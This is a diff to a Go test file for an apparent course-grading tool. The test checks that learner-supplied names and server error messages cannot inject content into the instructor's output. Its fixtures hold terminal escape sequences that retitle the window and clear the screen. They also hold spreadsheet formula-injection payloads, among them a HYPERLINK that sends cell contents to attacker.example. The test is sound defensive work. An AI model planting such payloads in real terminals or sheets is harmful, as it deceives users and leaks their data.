@@ -8,6 +8,8 @@ package hostile
 import (
 	"context"
 	"encoding/base64"
+	"encoding/csv"
+	"encoding/json"
 	"encoding/pem"
 	"fmt"
 	"net/http"
@@ -23,6 +25,7 @@ import (
 	"github.com/labhub/cnpa/internal/class"
 	"github.com/labhub/cnpa/internal/class/classtest"
 	"github.com/labhub/cnpa/internal/submission"
+	"github.com/labhub/cnpa/internal/ui"
 )
 
 // server is a learner's API server: it logs every request's path and
@@ -32,10 +35,12 @@ type server struct {
 	*httptest.Server
 	mu   sync.Mutex
 	auth []string
+	// message is the 500 Status's message for all but /version.
+	message string
 }
 
 func newServer(t *testing.T, version func(w http.ResponseWriter)) *server {
-	s := &server{}
+	s := &server{message: "no"}
 	s.Server = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		s.mu.Lock()
 		s.auth = append(s.auth, r.URL.Path+" "+r.Header.Get("Authorization"))
@@ -46,7 +51,8 @@ func newServer(t *testing.T, version func(w http.ResponseWriter)) *server {
 		}
 		w.Header().Set("Content-Type", "application/json")
 		w.WriteHeader(500)
-		fmt.Fprint(w, `{"kind":"Status","apiVersion":"v1","status":"Failure","message":"no","code":500}`)
+		msg, _ := json.Marshal(s.message)
+		fmt.Fprintf(w, `{"kind":"Status","apiVersion":"v1","status":"Failure","message":%s,"code":500}`, msg)
 	}))
 	t.Cleanup(s.Close)
 	return s
@@ -345,4 +351,93 @@ func flagDetails(l *class.Learner) string {
 		b.WriteString(f.Detail + "\n")
 	}
 	return b.String()
+}
+
+// N4 and N5: nothing a learner or their server writes reaches the
+// instructor's terminal or spreadsheet raw. A name with terminal escapes
+// and a kube_system_uid holding a formula are refused when read (their
+// files get unreadable rows); a server's 500 whose message retitles the
+// window and clears the screen is printed escaped; names that start
+// like formulas are written to the CSV prefixed with '.
+func TestNothingRawReachesTerminalOrSheet(t *testing.T) {
+	dir, subsDir := t.TempDir(), t.TempDir()
+	const escapes = "\x1b]0;OWNED\x07\x1b[2J\x1b[H all graded, 0 flagged"
+	s := newServer(t, func(w http.ResponseWriter) { fmt.Fprint(w, `{"major":"1","minor":"37","gitVersion":"v1.37.2"}`) })
+	s.message = escapes
+	write := func(file string, c *submission.Content) {
+		if err := submission.Write(filepath.Join(subsDir, file), c); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var reach []class.Reach
+	for i, name := range []string{"=HYPERLINK(\"https://attacker.example/?leak=\"&A3&B3,\"x\")", "@SUM(A1)", "+1", "-1", "erin"} {
+		c, err := classtest.Good(name, i+1)
+		if err != nil {
+			t.Fatal(err)
+		}
+		write(fmt.Sprintf("l%d.json", i), c)
+		reach = append(reach, class.Reach{Name: name, Kubeconfig: kubeconfig(t, dir, fmt.Sprintf("l%d", i), s, "", "token: t")})
+	}
+	carol, err := classtest.Good("carol"+escapes, 9)
+	if err != nil {
+		t.Fatal(err)
+	}
+	write("carol.json", carol)
+	formula, err := classtest.Good("frank", 10)
+	if err != nil {
+		t.Fatal(err)
+	}
+	formula.Cluster.KubeSystemUID = `=HYPERLINK("https://attacker.example/?leak="&A3&B3,"uid")`
+	write("frank.json", formula)
+
+	subs, bad, err := class.Load([]string{subsDir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(bad) != 2 {
+		t.Errorf("got %d unreadable files, want carol's (a name with escapes) and frank's (a uid that is a formula): %v", len(bad), bad)
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	live, err := class.GradeLive(ctx, &class.ClassFile{Learners: reach}, subs, class.LiveOptions{Parallel: 4, Timeout: time.Minute, ProbeTimeout: 5 * time.Second})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r := live["erin"]; r == nil || !strings.Contains(r.Detail, "OWNED") {
+		t.Fatalf("erin's server's message is not in her row: %+v", r)
+	}
+	gb, err := class.Grade(subs, class.Options{Version: classtest.Version, Now: time.Now(), Live: live, Unreadable: bad})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var text, sheet strings.Builder
+	class.WriteText(ui.New(&text, true), gb)
+	if err := class.WriteCSV(&sheet, gb); err != nil {
+		t.Fatal(err)
+	}
+	for what, out := range map[string]string{"text": text.String(), "csv": sheet.String()} {
+		for i, r := range out {
+			if r < 0x20 && r != '\n' || r == 0x7f || r >= 0x80 && r < 0xa0 {
+				t.Errorf("%s output holds the control character %U at %d: ...%q...", what, r, i, out[max(0, i-40):min(len(out), i+40)])
+				break
+			}
+		}
+		if !strings.Contains(out, `\x1b]0;OWNED`) {
+			t.Errorf("%s output does not show the server's message escaped:\n%s", what, out)
+		}
+	}
+	rows, err := csv.NewReader(strings.NewReader(sheet.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("a CSV cell a spreadsheet takes for a formula: %q", cell)
+			}
+		}
+	}
+	if !strings.Contains(sheet.String(), `'=HYPERLINK(`) || !strings.Contains(sheet.String(), "\n'@SUM(A1),") {
+		t.Errorf("the names that start like formulas are not escaped with ':\n%s", sheet.String())
+	}
 }
